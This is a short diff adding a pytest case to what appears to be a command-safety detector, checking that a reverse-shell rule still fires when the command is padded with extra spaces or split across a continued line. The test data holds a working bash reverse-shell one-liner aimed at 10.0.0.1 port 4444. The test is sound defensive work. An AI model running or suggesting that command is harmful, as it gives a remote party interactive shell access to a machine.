@@ -209,6 +209,17 @@ def test_shell_noise_does_not_hide_a_command(command: str) -> None:
     assert verdict is Verdict.UNAUTHORIZED
 
 
+@pytest.mark.parametrize(
+    "command",
+    ["bash  -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash \\\n -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+)
+def test_more_white_space_than_a_hint_holds_does_not_hide_a_command(command: str) -> None:
+    """Two spaces, or a continued line (which the shell reading joins into two): the
+    hint "bash -i" holds one (second outsider review)."""
+    _, rules = _rules("Check the server.", command)
+    assert "policy.dangerous.reverse-shell" in rules
+
+
 def test_shell_read_leaves_plain_text_as_it_is() -> None:
     from sentrail.detect.dangerous import shell_read
 
